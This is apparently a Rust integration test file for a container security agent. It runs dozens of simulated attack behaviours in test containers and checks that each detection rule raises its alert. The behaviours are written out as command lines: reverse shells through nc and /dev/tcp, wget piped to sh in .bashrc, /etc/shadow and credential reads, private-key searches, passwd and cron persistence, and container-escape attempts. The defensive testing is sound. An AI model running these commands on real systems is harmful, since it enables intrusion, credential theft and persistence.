//! The default rule set (`rules/*.yaml`) against real containers: ONE
//! `rampart run --json` agent watches many short behaviour containers, each in its
//! own uniquely named container, and every default rule must raise its alert with
//! the right priority and the container's fields. A benign-workload test (web
//! server, batch job, shell entrypoint) must raise nothing at WARNING or above.
//! Needs root and dockerd (scripts/setup.sh); fails, never skips, without them.
//!
//! Network: loopback inside the test's own containers only.

mod common;

use common::*;
use serde_json::Value;
use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;
use std::sync::Mutex;
use std::time::{Duration, Instant};

/// How long after the last container started all expected alerts may take.
const ALERT_DEADLINE: Duration = Duration::from_secs(60);
const WAIT: Duration = Duration::from_secs(60);

/// CAP_SYS_ADMIN without Docker's seccomp/AppArmor confinement: what mount,
/// unshare and setns need to succeed (`--privileged` does not work on these
/// machines, see DESIGN.md).
const POWERFUL: &[&str] = &[
    "--cap-add",
    "SYS_ADMIN",
    "--security-opt",
    "seccomp=unconfined",
    "--security-opt",
    "apparmor=unconfined",
];
/// Without Docker's seccomp profile (which blocks init_module and bpf before
/// they reach the kernel's syscall tracepoints); no extra capability, so the
/// calls fail with EPERM: the attempt is what the rules detect.
const UNCONFINED: &[&str] = &["--security-opt", "seccomp=unconfined"];

/// How a behaviour is run.
enum How {
    /// `docker run IMAGE sh -c SCRIPT`.
    Sh(&'static str),
    /// `docker run IMAGE ARGV...`.
    Run(&'static [&'static str]),
    /// `docker run IMAGE sleep 60`, then `docker exec -t NAME ARGV...`: a
    /// command typed at a terminal (runc makes it a session and process group
    /// leader on the terminal).
    ExecTty(&'static [&'static str]),
    /// `docker run IMAGE sleep 60`, then `docker exec NAME ARGV...` (no terminal).
    Exec(&'static [&'static str]),
    /// `docker run -v HELPER:/usr/local/bin/NAME:ro IMAGE NAME ARGS...`, with the
    /// helper built from `tests/helpers/NAME.c` (behaviours the image's rtest lacks;
    /// the shared test image stays as it is).
    Helper(&'static str, &'static [&'static str]),
}

/// Builds `tests/helpers/NAME.c` into a static binary (once per test run) and
/// returns its path.
fn helper(name: &str) -> String {
    static BUILT: Mutex<BTreeSet<String>> = Mutex::new(BTreeSet::new());
    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/helpers").join(format!("{name}.c"));
    let bin = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("helper-{name}"));
    let mut built = BUILT.lock().unwrap();
    if built.insert(name.to_string()) {
        let out = Command::new("gcc")
            .args(["-static", "-O2", "-Wall", "-Wextra", "-o"])
            .arg(&bin)
            .arg(&src)
            .output()
            .expect("gcc (scripts/setup.sh installs it)");
        assert!(
            out.status.success(),
            "gcc -static {} failed: {}",
            src.display(),
            String::from_utf8_lossy(&out.stderr)
        );
    }
    bin.display().to_string()
}

struct Case {
    rule: &'static str,
    priority: &'static str,
    docker_args: &'static [&'static str],
    how: How,
    /// Falco's upstream rules (`crates/rules/tests/falco-upstream/`) this
    /// behaviour trips too (docs/falco-coverage.md: the rows this rule covers).
    upstream: &'static [&'static str],
}

impl Case {
    /// The upstream Falco rules that must fire on this behaviour as well.
    const fn up(self, upstream: &'static [&'static str]) -> Case {
        Case { upstream, ..self }
    }
}

const fn case(rule: &'static str, priority: &'static str, how: How) -> Case {
    Case { rule, priority, docker_args: &[], how, upstream: &[] }
}

const fn case_with(
    rule: &'static str,
    priority: &'static str,
    docker_args: &'static [&'static str],
    how: How,
) -> Case {
    Case { rule, priority, docker_args, how, upstream: &[] }
}

/// One (or more) behaviour per default rule.
fn cases() -> Vec<Case> {
    use How::*;
    vec![
        // ---- execution
        case("Terminal shell in container", "Notice", ExecTty(&["sh", "-c", "echo interactive; true"])).up(&["Terminal shell in container"]),
        case_with(
            "Terminal shell in privileged container",
            "Critical",
            &["-v", "/var/run/docker.sock:/var/run/docker.sock:ro"],
            ExecTty(&["sh", "-c", "echo interactive-host-control; true"]),
        ),
        case(
            "Shell spawned by non-shell program in container",
            "Notice",
            Run(&["/usr/local/bin/rtest", "spawn", "/bin/sh", "-c", "echo spawned; true"]),
        ),
        case(
            "Shell spawned by web or database server in container",
            "Warning",
            Sh("ln -s /usr/local/bin/rtest /tmp/nginx && /tmp/nginx spawn /bin/sh -c 'echo from-nginx > /dev/tcp/127.0.0.1/9 2>/dev/null; true'"),
        ).up(&["Run shell untrusted", "Web Server Spawned Shell", "Reverse Shell from Web Server"]),
        case("Package management process in container", "Warning", Sh("rpm -i /tmp/missing.rpm; true")),
        case(
            "Package management process in container",
            "Warning",
            Sh("ln -s /usr/local/bin/rtest /tmp/pip && /tmp/pip nop install requests"),
        )
        .up(&["Launch Package Management Process in Container"]),
        case(
            "Drifted executable run in container",
            "Warning",
            Sh("cp /usr/local/bin/rtest /root/dropped && /root/dropped nop drift"),
        ).up(&["Drop and execute new binary in container"]),
        case(
            "Suspicious program spawned by web or database server in container",
            "Warning",
            Sh("ln -s /usr/local/bin/rtest /tmp/nginx && /tmp/nginx spawn /usr/bin/id"),
        ).up(&["Web Server Spawned Suspicious Child Process"]),
        case(
            "Suspicious program spawned by web or database server in container",
            "Warning",
            Sh("ln -s /usr/local/bin/rtest /tmp/mysqld && /tmp/mysqld spawn /usr/bin/id"),
        )
        .up(&["DB program spawned process"]),
        case(
            "Cluster or runtime client launched in container",
            "Notice",
            Sh("ln -s /usr/local/bin/rtest /tmp/kubectl && /tmp/kubectl nop get secrets -A"),
        ).up(&["Kubernetes Client Tool Launched in Container"]),
        case(
            "Backdoored xz library loaded in container",
            "Warning",
            // and a process named sshd (a script) reading it.
            Sh("echo ELF > /tmp/liblzma.so.5.6.1 && cat /tmp/liblzma.so.5.6.1 > /dev/null \
                && printf '#!/bin/sh\\nread l < /tmp/liblzma.so.5.6.1\\n' > /tmp/sshd && chmod +x /tmp/sshd && /tmp/sshd"),
        ).up(&["Backdoored library loaded into SSHD (CVE-2024-3094)"]),
        case(
            "Network tool run by JavaScript package install in container",
            "Warning",
            // npm's install script runs a shell that runs nc (to a closed loopback port).
            Sh("ln -s /usr/local/bin/rtest /tmp/nc && ln -s /usr/local/bin/rtest /tmp/npm && /tmp/npm spawn /bin/sh -c 'nc -w 1 127.0.0.1 9; /tmp/nc nop 127.0.0.1 9; true' install"),
        ).up(&["Network Tool Executed During NPM Package Install"]),
        // ---- credential access
        case("Sensitive account file read in container", "Warning", Sh("cat /etc/shadow > /dev/null")).up(&["Read sensitive file untrusted"]),
        case(
            "Sensitive account file read in container",
            "Warning",
            // The path as passed climbs twice (fd.nameraw), from a non-shell parent.
            Run(&["/usr/local/bin/rtest", "spawn", "/bin/cat", "/etc/../etc/../etc/shadow"]),
        )
        .up(&["Directory traversal monitored file read"]),
        case(
            "Sensitive account file read in container",
            "Warning",
            // A server process (a script named nginx) reading /etc/shadow more
            // than 5 s after it started.
            Sh("printf '#!/bin/sh\\nsleep 6\\nread l < /etc/shadow\\n' > /tmp/nginx && chmod +x /tmp/nginx && /tmp/nginx"),
        )
        .up(&["Read sensitive file trusted after startup"]),
        case(
            "Private key or credential file read in container",
            "Warning",
            Sh("mkdir -p /root/.ssh && echo KEY > /root/.ssh/id_rsa && cat /root/.ssh/id_rsa > /dev/null"),
        ),
        case(
            "Private key or credential file read in container",
            "Warning",
            Sh("mkdir -p /root/.aws && echo '[default]' > /root/.aws/credentials && cat /root/.aws/credentials > /dev/null"),
        ),
        case(
            "Environment of another process read in container",
            "Warning",
            Sh("sleep 5 & cat /proc/$!/environ > /dev/null; kill $!; true"),
        ).up(&["Read environment variable from /proc files"]),
        case(
            "Search for private keys or cloud credentials in container",
            "Warning",
            Sh("grep -rl 'BEGIN RSA PRIVATE KEY' /etc /root 2>/dev/null; ln -s /usr/local/bin/rtest /tmp/grep \
                && /tmp/grep nop -rl 'BEGIN RSA PRIVATE KEY' /etc; true"),
        ).up(&["Search Private Keys or Passwords"]),
        case(
            "Search for private keys or cloud credentials in container",
            "Warning",
            Sh("grep -ri aws_secret_access_key /root /tmp 2>/dev/null; ln -s /usr/local/bin/rtest /tmp/grep \
                && /tmp/grep nop -ri aws_secret_access_key /root; true"),
        ).up(&["Find AWS Credentials"]),
        case("Link to sensitive file created in container", "Warning", Sh("ln -s /etc/shadow /tmp/shadow-link")).up(&["Create Symlink Over Sensitive Files"]),
        case("Link to sensitive file created in container", "Warning", Sh("ln /etc/shadow /tmp/shadow-hard; true")).up(&["Create Hardlink Over Sensitive Files"]),
        case(
            "SSH client data read in container",
            "Warning",
            Sh("mkdir -p /root/.ssh && echo 'db1 ssh-ed25519 AAAAC3Nza' > /root/.ssh/known_hosts \
                && cat /root/.ssh/known_hosts > /dev/null"),
        ).up(&["Read ssh information"]),
        case_with(
            "Packet socket created in container",
            "Notice",
            // arping opens its AF_PACKET socket first, then gives up on lo (no ARP):
            // nothing is sent, and there is no network anyway.
            &["--network", "none"],
            Sh("arping -c 1 -w 1 -I lo 127.0.0.1; true"),
        ).up(&["Packet socket created in container"]),
        case_with(
            "Cloud metadata service contacted from container",
            "Notice",
            // No network: the connect fails at once (ENETUNREACH), nothing leaves.
            // (busybox wget crashes without a network, hence rtest.)
            &["--network", "none"],
            Sh("/usr/local/bin/rtest tcp-connect 169.254.169.254 80; true"),
        ),
        // ---- persistence
        case(
            "Write below binary directory in container",
            "Warning",
            Sh("echo planted > /usr/local/bin/planted && echo planted > /usr/bin/planted"),
        ).up(&["Write below binary dir", "Write below monitored dir"]),
        case(
            "Write below etc in container",
            "Warning",
            Sh("echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd && mkdir -p /etc/apt \
                && echo 'deb http://127.0.0.1:9/ evil main' >> /etc/apt/sources.list"),
        )
        .up(&["Write below etc", "Update Package Repository"]),
        case(
            "Cron job modified in container",
            "Warning",
            Sh("mkdir -p /etc/cron.d && echo '* * * * * root /tmp/x' > /etc/cron.d/evil"),
        ).up(&["Schedule Cron Jobs"]),
        case(
            "SSH authorized keys modified in container",
            "Warning",
            Sh("mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3Nza test' >> /root/.ssh/authorized_keys"),
        ).up(&["Adding ssh keys to authorized_keys"]),
        case(
            "Shell configuration file modified in container",
            "Warning",
            Sh("echo 'wget -q -O- http://127.0.0.1:1/x | sh' >> /root/.bashrc && echo 'true' | tee -a /root/.bashrc"),
        ).up(&["Modify Shell Configuration File"]),
        case(
            "Binary directory entries changed in container",
            "Warning",
            Sh("mv /usr/bin/od /usr/bin/od.orig && mkdir /usr/bin/rampart-dir"),
        ).up(&["Modify binary dirs", "Mkdir binary dirs"]),
        // ---- privilege escalation
        case(
            "Setuid or setgid bit set in container",
            "Warning",
            Run(&["/usr/local/bin/rtest", "chmod-suid", "/tmp/suid-shell"]),
        ).up(&["Set Setuid or Setgid bit"]),
        case_with(
            "Non-root process set its user id to root in container",
            "Warning",
            &["--user", "1000:1000"],
            Run(&["/usr/local/bin/rtest", "setuid", "0"]),
        ).up(&["Non sudo setuid"]),
        case(
            "Capabilities raised with capset in container",
            "Warning",
            Run(&["/usr/local/bin/rtest", "capset-raise"]),
        ),
        case(
            "Local privilege escalation exploit invoked in container",
            "Critical",
            Sh("ln -s /usr/local/bin/rtest /tmp/sudoedit && /tmp/sudoedit -s 'x\\'; true"),
        ).up(&["Sudo Potential Privilege Escalation"]),
        case(
            "Local privilege escalation exploit invoked in container",
            "Critical",
            Sh("ln -s /usr/local/bin/rtest /tmp/pkexec && /tmp/pkexec; true"),
        ).up(&["Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)"]),
        // ---- defense evasion
        case(
            "Shell history deleted or truncated in container",
            "Warning",
            Sh("echo ls > /root/.ash_history && rm /root/.ash_history"),
        ).up(&["Delete or rename shell history"]),
        case(
            "Shell history deleted or truncated in container",
            "Warning",
            Sh(": > /root/.bash_history"),
        ),
        case(
            "Log files deleted or truncated in container",
            "Warning",
            Sh("mkdir -p /var/log && echo x >> /var/log/auth.log && : > /var/log/auth.log && rm /var/log/auth.log"),
        ).up(&["Clear Log Activities"]),
        case(
            "Fileless execution from memfd in container",
            "Critical",
            Run(&["/usr/local/bin/rtest", "memfd-exec", "rules"]),
        ).up(&["Fileless execution via memfd_create"]),
        case(
            "Execution from temporary directory in container",
            "Warning",
            Sh("cp /usr/local/bin/rtest /tmp/payload && /tmp/payload nop tmp-exec"),
        ),
        case_with(
            "Execution from temporary directory in container",
            "Warning",
            // Docker mounts /dev/shm noexec by default; an exec-able tmpfs there.
            &["--tmpfs", "/dev/shm:rw,exec"],
            Sh("cp /usr/local/bin/rtest /dev/shm/payload && /dev/shm/payload nop shm-exec"),
        ).up(&["Execution from /dev/shm"]),
        case("Anti-debugging with PTRACE_TRACEME in container", "Notice", Helper("traceme", &[])).up(&["PTRACE anti-debug attempt"]),
        case(
            "Base64-decoded payload piped to shell in container",
            "Warning",
            // "echo b64-payload"
            Sh("echo ZWNobyBiNjQtcGF5bG9hZA== | base64 -d | sh"),
        ).up(&["Decoding Payload in Container"]),
        case("File created directly below /dev in container", "Warning", Sh("echo stash > /dev/.cache")).up(&["Create files below dev"]),
        case(
            "Hidden file or directory created in temporary directory in container",
            "Notice",
            Sh("mkdir /tmp/.x && echo payload > /tmp/.x/p"),
        ),
        case(
            "Package database modified outside package manager in container",
            "Warning",
            Sh("mkdir -p /var/lib/dpkg /var/lib/rpm && echo 'Package: evil' >> /var/lib/dpkg/status \
                && echo evil >> /var/lib/rpm/Packages"),
        ).up(&["Write below rpm database"]),
        // ---- discovery
        case(
            "Network scanning tool launched in container",
            "Notice",
            Sh("ln -s /usr/local/bin/rtest /tmp/nmap && /tmp/nmap nop -sS 127.0.0.1"),
        ).up(&["Launch Suspicious Network Tool in Container"]),
        case("Network discovery command in container", "Notice", Sh("netstat -an > /dev/null; true")),
        case("Interactive reconnaissance command in container", "Notice", ExecTty(&["sh", "-c", "/usr/bin/id; /bin/uname -a; true"])),
        // Typed at the terminal itself: the group leader Falco's rule wants.
        case("Interactive reconnaissance command in container", "Notice", ExecTty(&["id"]))
            .up(&["Basic Interactive Reconnaissance"]),
        case(
            "Kubernetes control plane port contacted from container",
            "Notice",
            Run(&["/usr/local/bin/rtest", "connect-port", "10250"]),
        ),
        case(
            "Kubernetes NodePort contacted from container",
            "Notice",
            Run(&["/usr/local/bin/rtest", "connect-port", "30080"]),
        ),
        // ---- command and control
        case(
            "Reverse shell via netcat or socat in container",
            "Critical",
            Sh("nc -w 1 127.0.0.1 9 -e /bin/sh; ln -s /usr/local/bin/rtest /tmp/nc && /tmp/nc nop 127.0.0.1 9 -e /bin/sh; true"),
        ).up(&["Netcat Remote Code Execution in Container"]),
        case(
            "Reverse shell command line in container",
            "Critical",
            Sh("echo id > /dev/tcp/127.0.0.1/9 2>/dev/null; true"),
        ),
        case("Netcat launched in container", "Notice", Sh("nc -w 1 127.0.0.1 9 < /dev/null; true")),
        case(
            "Network connection by shell or file utility in container",
            "Notice",
            Sh("ln -s /usr/local/bin/rtest /tmp/bash && /tmp/bash connect-port 4242"),
        ),
        case(
            "SSH connection to non-standard port from container",
            "Notice",
            Sh("ln -s /usr/local/bin/rtest /tmp/ssh && /tmp/ssh connect-port 2222"),
        ),
        case(
            "Remote file copy tool launched in container",
            "Notice",
            Sh("wget -q -T 1 -O /tmp/payload http://127.0.0.1:9/x 2>/dev/null; ln -s /usr/local/bin/rtest /tmp/wget \
                && /tmp/wget nop -O /tmp/payload http://127.0.0.1:9/x; ln -s /usr/local/bin/rtest /tmp/scp \
                && /tmp/scp nop 127.0.0.1:/etc/hosts /tmp/hosts; true"),
        ).up(&["Launch Remote File Copy Tools in Container", "Launch Ingress Remote File Copy Tools in Container"]),
        case(
            "Archive streamed out of container through the runtime",
            "Notice",
            // A file outside /etc, /lib, /usr, /run and /proc, which Falco's
            // rule leaves out as the side effects of `kubectl cp` itself.
            Exec(&["tar", "cf", "-", "/bin/busybox"]),
        )
        .up(&["Exfiltrating Artifacts via Kubernetes Control Plane"]),
        // ---- impact
        case(
            "Connection to mining pool port from container",
            "Critical",
            Run(&["/usr/local/bin/rtest", "connect-port", "3333"]),
        ),
        case(
            "Mining pool address in command line in container",
            "Critical",
            Run(&["/usr/local/bin/rtest", "nop", "-o", "stratum+tcp://127.0.0.1:3333"]),
        ).up(&["Detect crypto miners using the Stratum protocol"]),
        case(
            "Crypto miner launched in container",
            "Critical",
            Sh("ln -s /usr/local/bin/rtest /tmp/xmrig && /tmp/xmrig nop --donate-level 1"),
        ).up(&["Known Cryptominer Process Executed"]),
        case(
            "Data destruction tool launched in container",
            "Warning",
            Sh("echo secret > /tmp/evidence && shred -u /tmp/evidence && ln -s /usr/local/bin/rtest /tmp/shred \
                && /tmp/shred nop -u /tmp/evidence"),
        ).up(&["Remove Bulk Data from Disk"]),
        // ---- container escape
        case_with(
            "Mount attempted in container",
            "Critical",
            POWERFUL,
            Sh("mkdir -p /mnt/t && mount -t tmpfs none /mnt/t && umount /mnt/t"),
        ),
        case_with(
            "Cgroup release agent written in container",
            "Critical",
            // Falco's rule wants CAP_SYS_ADMIN in the writer's effective set.
            POWERFUL,
            // A regular file named like the cgroup v1 control file: the rule keys
            // on the name (attackers mount cgroupfs anywhere); the host's real
            // release_agent is never touched.
            Sh("mkdir -p /tmp/cgrp && echo /tmp/x > /tmp/cgrp/release_agent"),
        ).up(&["Detect release_agent File Container Escapes"]),
        // /proc/sys and /sys/fs/cgroup are read-only in a default container: these
        // are attempts (EROFS), at names that do not exist, so that nothing would
        // change even on a host that mounted them writable.
        case(
            "Kernel or cgroup control file written in container",
            "Critical",
            Sh("echo 1 > /proc/sys/kernel/rampart_no_such_setting; true"),
        ),
        case(
            "Kernel or cgroup control file written in container",
            "Critical",
            Sh("echo 1 > /sys/fs/cgroup/rampart_no_such_file; true"),
        ),
        case(
            "Container runtime socket accessed from container",
            "Critical",
            // A socket of the container's own, named like the Docker API socket.
            Run(&["/usr/local/bin/rtest", "connect-unix", "/run/docker.sock"]),
        ),
        case_with("Namespace entered with setns in container", "Critical", POWERFUL, Sh("nsenter -t 1 -u true")).up(&["Change thread namespace"]),
        case_with(
            "Namespaces created with unshare in container",
            "Critical",
            POWERFUL,
            Run(&["/usr/local/bin/rtest", "unshare", "uts"]),
        ).up(&["Change namespace privileges via unshare"]),
        case_with(
            "Kernel module load attempted from container",
            "Critical",
            UNCONFINED,
            // init_module/finit_module with junk (EPERM without CAP_SYS_MODULE, or
            // ENOSYS on kernels without modules, where only the insmod exec shows).
            Sh("/usr/local/bin/rtest module-load; printf junk > /tmp/rootkit.ko; insmod /tmp/rootkit.ko; true"),
        ),
        case(
            "Process attached with ptrace in container",
            "Critical",
            Run(&["/usr/local/bin/rtest", "ptrace", "attach"]),
        ).up(&["PTRACE attached to process"]),
        case_with("BPF used from container", "Critical", UNCONFINED, Run(&["/usr/local/bin/rtest", "bpf"])),
        case_with("BPF used from container", "Critical", UNCONFINED, Helper("bpfload", &[]))
            .up(&["BPF Program Not Profiled"]),
        case(
            "Raw disk or memory device opened in container",
            "Critical",
            // No such device in a default container: the attempt (ENOENT) is reported.
            Sh("cat /dev/sda > /dev/null 2>&1; true"),
        ),
        case(
            "Host file system accessed through mount in container",
            "Warning",
            // A directory of the container's own, where a DaemonSet would mount the host.
            Sh("mkdir -p /host/etc && echo 'root::0:0:99999:7:::' > /host/etc/shadow"),
        ).up(&["Container Access to Host Sensitive Paths"]),
        case(
            "File system debugger launched in container",
            "Warning",
            Sh("ln -s /usr/local/bin/rtest /tmp/debugfs && /tmp/debugfs nop -w /dev/sda1"),
        ),
    ]
}

fn prefix_of(rule: &str) -> String {
    let words: String = rule
        .split_whitespace()
        .take(3)
        .map(|w| w.chars().filter(|c| c.is_ascii_alphanumeric()).collect::<String>().to_ascii_lowercase())
        .collect::<Vec<_>>()
        .join("-");
    format!("r-{words}")
}

fn start(case: &Case) -> Container {
    let prefix = prefix_of(case.rule);
    match &case.how {
        How::Sh(script) => Container::sh(&prefix, case.docker_args, script),
        How::Run(argv) => Container::run(&prefix, case.docker_args, argv),
        How::ExecTty(argv) => {
            exec_in(Container::run(&prefix, case.docker_args, &["sleep", "60"]), true, argv)
        }
        How::Helper(name, argv) => {
            let mount = format!("{}:/usr/local/bin/{name}:ro", helper(name));
            let mut args: Vec<&str> = case.docker_args.to_vec();
            args.extend(["-v", mount.as_str()]);
            let exe = format!("/usr/local/bin/{name}");
            let mut cmd = vec![exe.as_str()];
            cmd.extend_from_slice(argv);
            Container::run(&prefix, &args, &cmd)
        }
        How::Exec(argv) => exec_in(Container::run(&prefix, case.docker_args, &["sleep", "60"]), false, argv),
    }
}

/// `docker exec [-t] NAME ARGV...` in `c`, which must succeed.
fn exec_in(c: Container, tty: bool, argv: &[&str]) -> Container {
    let mut args = vec!["exec"];
    if tty {
        args.push("-t");
    }
    args.push(&c.name);
    args.extend_from_slice(argv);
    let out = docker(&args);
    assert!(out.status.success(), "docker {args:?} failed: {}", String::from_utf8_lossy(&out.stderr));
    c
}

/// What is wrong with `alert` as the alert of `case` in container `c`.
fn check_alert(case: &Case, c: &Container, alert: &Value) -> Vec<String> {
    let mut problems = Vec::new();
    if alert_priority(alert) != case.priority {
        problems.push(format!("priority {:?}, want {:?}", alert_priority(alert), case.priority));
    }
    if container_name(alert) != c.name {
        problems.push(format!("container.name {:?}, want {:?}", container_name(alert), c.name));
    }
    if alert["container"]["image"] != IMAGE {
        problems.push(format!("container.image {}, want {IMAGE}", alert["container"]["image"]));
    }
    let fields = &alert["output_fields"];
    if fields["container.name"] != c.name.as_str() {
        problems
            .push(format!("output_fields[container.name] = {}, want {:?}", fields["container.name"], c.name));
    }
    if fields["container.id"].as_str().is_none_or(|id| !c.id.starts_with(id) || id.len() < 12) {
        problems.push(format!(
            "output_fields[container.id] = {}, not a prefix of {}",
            fields["container.id"], c.id
        ));
    }
    let has_process = ["proc.cmdline", "proc.name"]
        .iter()
        .any(|f| fields[*f].as_str().is_some_and(|v| !v.is_empty() && v != "<NA>"));
    if !has_process {
        problems.push("output_fields carry no proc.cmdline/proc.name".into());
    }
    if fields.get("user.name").is_none() {
        problems.push("output_fields carry no user.name".into());
    }
    let tags: Vec<&str> =
        alert["tags"].as_array().map(|a| a.iter().filter_map(Value::as_str).collect()).unwrap_or_default();
    if !tags.contains(&"container") || !tags.iter().any(|t| t.starts_with("mitre_")) {
        problems.push(format!("tags {tags:?} lack `container` or a mitre_ tactic"));
    }
    if alert["source"] != "syscall" {
        problems.push(format!("source {}", alert["source"]));
    }
    problems.into_iter().map(|p| format!("{} in {}: {p}\n    alert: {alert}", case.rule, c.name)).collect()
}

/// Default rules whose behaviour needs more than a container (their test file).
const TESTED_ELSEWHERE: &[&str] = &[
    // tests/netpolicy.rs: a network policy or isolation has to be applied first.
    "Connection denied by network policy",
    "Traffic blocked by container isolation",
    // tests/netdetect.rs: nmap, nping, hping3 and busybox nslookup (against
    // a dnsmasq of the test's) from containers on a network of the test.
    "Port scan from container",
    "Many failed connections from container",
    "SYN flood into container",
    "SYN flood from container",
    "ICMP flood involving container",
    "Host sweep from container",
    "Connection flood into container",
    "DNS query flood from container",
    "Many NXDOMAIN answers to container",
    // tests/ratelimit.rs: iperf3 UDP and TCP floods between two containers.
    "UDP flood involving container",
    "Large egress volume from container",
    // tests/dns.rs: a dnsmasq container answers the client's long, varied name.
    "DNS tunnelling-like query from container",
    // busy_container_running_a_drifted_executable_is_flagged (below): busy
    // containers of its own, kept out of the many behaviours run at once.
    CPU_DRIFT_RULE,
];

const CPU_DRIFT_RULE: &str = "Drifted executable burning CPU in container";

/// Falco's shipped rule files, in Falco's load order (vendored unchanged).
fn upstream_rule_files() -> Vec<String> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/tests/falco-upstream");
    ["falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"]
        .iter()
        .map(|f| dir.join(f).display().to_string())
        .collect()
}

/// `rampart run` arguments loading only Falco's upstream files.
fn upstream_agent_args() -> Vec<String> {
    let mut args = vec!["--no-default-rules".to_string()];
    for f in upstream_rule_files() {
        args.push("--rules".into());
        args.push(f);
    }
    args
}

/// Every `- rule:` name in the upstream files.
fn upstream_rule_names() -> Vec<String> {
    let mut names = Vec::new();
    for f in upstream_rule_files() {
        let text = std::fs::read_to_string(&f).unwrap_or_else(|e| panic!("{f}: {e}"));
        names.extend(text.lines().filter_map(|l| l.strip_prefix("- rule: ")).map(|n| n.trim().to_string()));
    }
    names
}

/// Upstream rules no behaviour case trips, and why (docs/falco-coverage.md).
const UPSTREAM_NOT_EXERCISED: &[(&str, &str)] = &[
    // `enabled: false` in falco-sandbox_rules.yaml.
    ("Unexpected inbound connection source", "disabled in its file"),
    ("Read Shell Configuration File", "disabled in its file"),
    ("Interpreted procs inbound network activity", "disabled in its file"),
    ("Interpreted procs outbound network activity", "disabled in its file"),
    ("Unexpected K8s NodePort Connection", "disabled in its file"),
    ("Create Hidden Files or Directories", "disabled in its file"),
    ("Detect outbound connections to common miner pool ports", "disabled in its file"),
    ("Container Drift Detected (chmod)", "disabled in its file"),
    ("Container Drift Detected (open+create)", "disabled in its file"),
    ("Container Run as Root User", "disabled in its file"),
    ("Java Process Class File Download", "disabled in its file"),
    ("Modify Container Entrypoint", "disabled in its file"),
    // Events or fields the sensor does not provide.
    ("Redirect STDOUT/STDIN to Network Connection in Container", "dup/dup2/dup3 not captured"),
    ("Program run with disallowed http proxy env", "no process environment (proc.env)"),
    (
        "Potential Local Privilege Escalation via Environment Variables Misuse",
        "no process environment (proc.env)",
    ),
    ("Unexpected UDP Traffic", "sendto/recvfrom not captured"),
    ("Unprivileged Delegation of Page Faults Handling to a Userspace Process", "userfaultfd not captured"),
    // Container start events (evt.type=container): rampart audit's findings.
    ("Launch Privileged Container", "container start event: rampart audit `privileged`"),
    ("Launch Excessively Capable Container", "container start event: rampart audit `cap-added`"),
    ("Launch Sensitive Mount Container", "container start event: rampart audit `sensitive-mount`"),
    ("Launch Disallowed Container", "container start event; an image allow-list template"),
    // Host only: Falco's condition excludes containers.
    ("User mgmt binaries", "host only (excludes containers)"),
    ("Launch Suspicious Network Tool on Host", "host only"),
    ("Netcat/Socat Remote Code Execution on Host", "host only"),
    // No rampart default rule (not adopted: noise in containers).
    ("Write below root", "no rampart default rule (not adopted)"),
    // Conditions no single-container behaviour meets.
    (
        "Network Connection outside Local Subnet",
        "scoped to a Kubernetes namespace list, empty by default (rampart: tests/netpolicy.rs)",
    ),
    ("System user interactive", "needs an sshd/login session of a system account (bin, daemon, nobody ...)"),
    // Falco's `outbound`/`inbound_outbound` need a connect that succeeds (or is
    // in progress) to an address outside 127/8 and RFC 1918: the test containers
    // have loopback only (rampart's rules key on the attempt, which is tested).
    ("Contact EC2 Instance Metadata Service From Container", "needs a successful connect to 169.254.169.254"),
    ("Contact cloud metadata service from container", "needs a successful connect to 169.254.169.254"),
    ("System procs network activity", "needs a successful connect outside loopback"),
    ("Disallowed SSH Connection Non Standard Port", "needs a successful connect outside loopback"),
    ("Contact K8S API Server From Container", "needs a successful connect to the API server's address"),
    // container.privileged=true: `--privileged` does not work on the test
    // machines (DESIGN.md).
    ("Mount Launched in Privileged Container", "needs a --privileged container"),
    ("Debugfs Launched in Privileged Container", "needs a --privileged container"),
    // open_read/open_write need the open to succeed: no block device in a
    // test container (rampart reports the attempt).
    ("Privileged Container Device Access", "needs a successful open of a disk device"),
    // This kernel is built without module support: init_module and
    // finit_module are not implemented and have no syscall tracepoints, so no
    // event of theirs exists (rampart's rule sees the insmod exec instead).
    (
        "Linux Kernel Module Injection Detected",
        "no init_module/finit_module events: the test kernel has no module support",
    ),
];

#[test]
fn every_upstream_rule_is_exercised_or_explained() {
    let all: Vec<String> = upstream_rule_names();
    assert_eq!(all.len(), 93, "Falco's three files hold 93 rules: {all:#?}");
    let all: BTreeSet<String> = all.into_iter().collect();
    let exercised: BTreeSet<String> =
        cases().iter().flat_map(|c| c.upstream.iter().map(|u| u.to_string())).collect();
    let explained: BTreeSet<String> = UPSTREAM_NOT_EXERCISED.iter().map(|(r, _)| r.to_string()).collect();
    let both: Vec<&String> = exercised.intersection(&explained).collect();
    assert!(both.is_empty(), "upstream rules both exercised and explained away: {both:#?}");
    let covered: BTreeSet<String> = exercised.union(&explained).cloned().collect();
    let left: Vec<&String> = all.difference(&covered).collect();
    let unknown: Vec<&String> = covered.difference(&all).collect();
    assert!(left.is_empty(), "upstream rules neither exercised nor explained: {left:#?}");
    assert!(unknown.is_empty(), "names not in the upstream files: {unknown:#?}");
    // Every rule disabled in its file is explained as such.
    for f in upstream_rule_files() {
        let text = std::fs::read_to_string(&f).unwrap();
        for block in text.split("\n- ").filter(|b| b.starts_with("rule: ")) {
            let name = block.lines().next().unwrap()["rule: ".len()..].trim();
            if block.lines().any(|l| l.trim() == "enabled: false") {
                assert!(
                    UPSTREAM_NOT_EXERCISED.iter().any(|(r, why)| *r == name && why.contains("disabled")),
                    "{name} is disabled in {f} but not listed as such"
                );
            }
        }
    }
    eprintln!(
        "upstream rules: {} exercised, {} explained, of {}",
        exercised.len(),
        explained.len(),
        all.len()
    );
}

#[test]
fn every_default_rule_has_a_behaviour() {
    let names: BTreeSet<String> = default_rule_names().into_iter().collect();
    assert!(names.len() >= 30, "only {} rules found in rules/: {names:?}", names.len());
    let mut covered: BTreeSet<String> = cases().iter().map(|c| c.rule.to_string()).collect();
    covered.extend(TESTED_ELSEWHERE.iter().map(|r| r.to_string()));
    let untested: Vec<&String> = names.difference(&covered).collect();
    let unknown: Vec<&String> = covered.difference(&names).collect();
    assert!(untested.is_empty(), "default rules without a behaviour test: {untested:#?}");
    assert!(unknown.is_empty(), "behaviours for rules that do not exist: {unknown:#?}");
}

#[test]
fn default_rule_files_check_clean() {
